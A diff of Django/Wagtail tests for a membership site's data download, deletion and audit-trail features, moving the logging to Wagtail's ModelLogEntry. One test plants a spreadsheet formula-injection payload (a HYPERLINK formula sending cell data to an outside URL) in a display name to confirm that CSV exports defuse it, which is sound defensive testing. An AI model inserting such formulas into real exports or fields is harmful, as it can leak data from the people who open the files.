@@ -1,19 +1,21 @@
 """Their data, their choice: a complete download, and a deletion that leaves no trace."""
 
 import json
-from datetime import date
+from datetime import date, timedelta
 
 import pytest
 from django.apps import apps
+from django.contrib.contenttypes.models import ContentType
 from django.core import mail
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import models
 from django.urls import reverse
+from django.utils import timezone
 from wagtail.images import get_image_model
+from wagtail.models import ModelLogEntry
 
 from home.models import Skill
 from members.models import (
-    AuditEvent,
     Block,
     Invitation,
     LoginRecord,
@@ -58,7 +60,7 @@ def test_download_contains_everything_held(client, approved_member, another_memb
     assert len(data["login_history"]) == 1
     assert data["stories"] == [] and data["event_replies"] == []
     assert data["mentoring"] == {"offer": None, "wish": None, "pairs": []}
-    assert AuditEvent.objects.filter(action="exported").exists()
+    assert ModelLogEntry.objects.filter(action="members.exported", user=approved_member).exists()
 
 
 def all_text_in_database():
@@ -134,7 +136,11 @@ def test_deletion_leaves_no_trace_of_email_or_name(
     # the request to staff, never confirmed, is gone.
     assert Mentorship.objects.get().mentee is None
     assert MentoringMeeting.objects.get().note == ""
-    assert AuditEvent.objects.filter(action="deleted", subject=f"#{approved_member.pk}").exists()
+    assert ModelLogEntry.objects.filter(
+        action="members.deleted",
+        object_id=str(approved_member.pk),
+        data={"members": [approved_member.pk]},
+    ).exists()
     # The two messages, then the partner told that the pair ended (issue 15 §7).
     assert [message.subject for message in mail.outbox][2:] == ["Your mentoring pair has ended"]
     assert len(mail.outbox) == 3
@@ -162,27 +168,67 @@ def test_staff_csv_export_includes_only_consenting_members(client, staff, viewer
     assert viewers["approved"].email in csv_text
     assert viewers["another"].email not in csv_text
     assert viewers["pending"].email not in csv_text
-    assert AuditEvent.objects.filter(action="staff_export").exists()
+    assert ModelLogEntry.objects.filter(action="members.staff_export", user=staff).exists()
 
 
-def test_audit_trail_lists_events_without_names(client, staff, pending_member):
+def test_audit_trail_keeps_numbers_and_names_members_to_staff(client, staff, pending_member):
+    pending_member.profile.display_name = "Pending Person"
+    pending_member.profile.save()
     client.force_login(staff)
     client.post(
         reverse("members_admin:decide", args=[pending_member.profile.pk]),
         {"decision": "approve"},
     )
+    entry = ModelLogEntry.objects.get(action="members.approved")
+    assert entry.data == {"members": [pending_member.pk]} and entry.user == staff
+    assert "Pending Person" not in entry.label and pending_member.email not in entry.label
     response = client.get(reverse("members_admin:audit"))
+    assert "no-store" in response["Cache-Control"]
     assert "Membership approved" in response.text
-    assert f"#{pending_member.pk}" in response.text
+    assert "Pending Person" in response.text  # named when staff read it
+    assert staff.get_full_name() in response.text
+    assert pending_member.email not in response.text
 
 
 def test_the_audit_trail_pages_back_to_its_oldest_entries(client, staff):
-    AuditEvent.objects.bulk_create(
-        [AuditEvent(action="exported", subject=f"#{number}") for number in range(1, 106)]
+    user_type = ContentType.objects.get_for_model(type(staff))
+    ModelLogEntry.objects.bulk_create(
+        [
+            ModelLogEntry(
+                content_type=user_type,
+                object_id=str(90000 + number),
+                label=f"#{90000 + number}",
+                action="members.exported",
+                data={"members": [90000 + number]},
+                timestamp=timezone.now() - timedelta(minutes=200 - number),
+            )
+            for number in range(1, 106)
+        ]
     )
     client.force_login(staff)
     first = client.get(reverse("members_admin:audit")).text
-    assert "Page 1 of 2" in first and 'rel="next"' in first
-    assert ">#105<" in first and ">#5<" not in first  # newest first, 100 to a page
-    second = client.get(reverse("members_admin:audit"), {"page": 2}).text
-    assert ">#5<" in second and ">#1<" in second and ">#105<" not in second
+    assert "Page 1 of 2" in first and "?p=2" in first
+    assert "#90105" in first and "#90005" not in first  # newest first, 100 to a page
+    second = client.get(reverse("members_admin:audit"), {"p": 2}).text
+    assert "#90005" in second and "#90001" in second and "#90105" not in second
+
+
+def test_the_audit_trail_filters_by_action_and_exports_without_formulas(
+    client, staff, approved_member
+):
+    approved_member.profile.display_name = '=HYPERLINK("https://example.org/?"&A1,"Click")'
+    approved_member.profile.save()
+    client.force_login(approved_member)
+    client.post(reverse("members:export_data"))
+    client.force_login(staff)
+    client.get(reverse("members_admin:export_csv"))
+    filtered = client.get(reverse("members_admin:audit"), {"action": "members.staff_export"})
+    assert "Staff downloaded the member list" in filtered.text
+    assert filtered.text.count("Member downloaded their data") == 1  # the filter option only
+    export = client.get(reverse("members_admin:audit"), {"export": "csv"})
+    assert export.status_code == 200
+    csv_text = b"".join(export.streaming_content).decode()
+    assert "'=HYPERLINK" in csv_text
+    assert "\n=HYPERLINK" not in csv_text and ",=HYPERLINK" not in csv_text
+    bad = client.get(reverse("members_admin:audit"), {"action": "nonsense", "timestamp_after": "x"})
+    assert bad.status_code == 200
